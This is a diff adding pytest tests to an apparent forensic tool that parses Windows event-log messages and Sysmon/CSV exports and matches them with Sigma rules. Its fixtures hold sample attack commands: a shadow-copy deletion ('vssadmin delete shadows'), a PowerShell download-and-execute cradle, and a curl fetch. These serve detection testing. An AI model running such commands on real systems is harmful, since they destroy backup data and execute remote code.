@@ -411,3 +411,124 @@ def test_elastic_events_of_other_shapes() -> None:
         "curl -s http://198.51.100.23/x",
     )
     assert ecs_row({**auditbeat, "host.os.type": "macos"}) is None  # no family of rules for it
+
+
+_PROCESS_4688 = (
+    "A new process has been created.\r\n\r\nCreator Subject:\r\n\tSecurity ID:\t\tS-1-5-21-1-2-3-1001\r\n"
+    "\tAccount Name:\t\tbob\r\n\tAccount Domain:\t\tCORP\r\n\tLogon ID:\t\t0x3E7\r\n\r\nTarget Subject:\r\n"
+    "\tSecurity ID:\t\tS-1-0-0\r\n\tAccount Name:\t\t-\r\n\r\nProcess Information:\r\n"
+    "\tNew Process ID:\t\t0x1a2c\r\n\tNew Process Name:\tC:\\Windows\\System32\\vssadmin.exe\r\n"
+    "\tCreator Process Name:\tC:\\Windows\\System32\\cmd.exe\r\n"
+    "\tProcess Command Line:\tvssadmin delete shadows /all /quiet\r\n\r\n"
+    "Token Elevation Type indicates the type of token that was assigned to the new process."
+)
+
+
+def test_rendered_messages_give_back_the_fields_sigma_names() -> None:
+    from unmask.ingest.winmessage import message_fields
+
+    process = message_fields(_PROCESS_4688, "Microsoft-Windows-Security-Auditing")
+    assert process["NewProcessName"].endswith("vssadmin.exe") and process["ParentProcessName"].endswith(
+        "cmd.exe"
+    )
+    assert process["CommandLine"] == "vssadmin delete shadows /all /quiet"
+    assert process["SubjectUserName"] == "bob" and process["TargetUserSid"] == "S-1-0-0"
+    assert "TargetUserName" not in process  # "-" is no value
+    logon = message_fields(
+        "An account failed to log on.\n\nSubject:\n\tAccount Name:\t\t-\n\nLogon Type:\t\t\t3\n\n"
+        "Account For Which Logon Failed:\n\tAccount Name:\t\tadministrator\n\tAccount Domain:\t\tCORP\n\n"
+        "Network Information:\n\tWorkstation Name:\tKALI\n\tSource Network Address:\t203.0.113.9\n"
+    )
+    assert logon == {
+        "LogonType": "3",
+        "TargetUserName": "administrator",
+        "TargetDomainName": "CORP",
+        "WorkstationName": "KALI",
+        "IpAddress": "203.0.113.9",
+    }
+    service = message_fields(
+        "A service was installed in the system.\n\nService Name:  PSEXESVC\nService File Name:  %SystemRoot%\\PSEXESVC.exe"
+    )
+    assert service == {"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe"}
+    script = message_fields(
+        "Creating Scriptblock text (1 of 1):\nIEX (New-Object Net.WebClient).DownloadString('http://x')\n"
+        "Write-Host done\n\nScriptBlock ID: 5b5c\nPath: "
+    )
+    assert script["ScriptBlockText"].splitlines() == [
+        "IEX (New-Object Net.WebClient).DownloadString('http://x')",
+        "Write-Host done",
+    ]
+    sysmon = message_fields(
+        "Process Create:\nRuleName: -\nImage: C:\\x.exe\nCommandLine: x /y", "Microsoft-Windows-Sysmon"
+    )
+    assert sysmon == {"Image": "C:\\x.exe", "CommandLine": "x /y"}
+
+
+def test_event_viewer_csv_and_get_winevent_csv_are_hunted_by_their_messages(tmp_path: Path) -> None:
+    import csv
+
+    evidence = tmp_path / "ev"
+    evidence.mkdir()
+    with (evidence / "viewer.csv").open("w", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["Level", "Date and Time", "Source", "Event ID", "Task Category"])
+        writer.writerow(
+            [
+                "Information",
+                "3/5/2024 10:00:00 AM",
+                "Microsoft-Windows-Security-Auditing",
+                "4688",
+                "Process Creation",
+                _PROCESS_4688,
+            ]
+        )
+    with (evidence / "winevent.csv").open("w", newline="") as handle:
+        handle.write("#TYPE System.Diagnostics.Eventing.Reader.EventLogRecord\n")
+        writer = csv.writer(handle)
+        writer.writerow(
+            [
+                "Message",
+                "Id",
+                "ProviderName",
+                "LogName",
+                "ProcessId",
+                "MachineName",
+                "TimeCreated",
+                "Properties",
+            ]
+        )
+        writer.writerow(
+            [
+                "Process Create:\nImage: C:\\Windows\\System32\\vssadmin.exe\nCommandLine: vssadmin delete shadows",
+                "1", "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", "3044", "WS02",
+                "3/5/2024 10:00:02 AM", "System.Collections.Generic.List`1[EventProperty]",
+            ]
+        )  # fmt: skip
+    ingest([evidence], tmp_path / "case" / "events", jobs=1)
+    rows = duckdb.sql(
+        f"SELECT * FROM read_parquet('{tmp_path / 'case' / 'events' / 'windows'}/*.parquet', union_by_name=true)"
+    ).fetchall()
+    assert len(rows) == 2
+    folder = tmp_path / "rules"
+    for name, source, field in (
+        ("audit", "    product: windows\n    service: security", "NewProcessName"),
+        ("sysmon", "    product: windows\n    category: process_creation", "Image"),
+    ):
+        write_rule(
+            folder,
+            name,
+            rule(
+                str(uuid.uuid4()),
+                name,
+                source,
+                f"    sel:\n        {field}|endswith: '\\\\vssadmin.exe'\n    condition: sel",
+            ),
+        )
+    rules = load_rules([folder])
+    with DuckDBEngine(tmp_path / "case" / "events") as engine:
+        hits = sorted((hit.rule.title, Path(hit.file).name, hit.ts or "") for hit in engine.run(rules.rules))
+    assert hits == [
+        ("audit", "viewer.csv", "2024-03-05T10:00:00.000000Z"),
+        ("sysmon", "viewer.csv", "2024-03-05T10:00:00.000000Z"),
+        ("sysmon", "winevent.csv", "2024-03-05T10:00:02.000000Z"),
+    ]
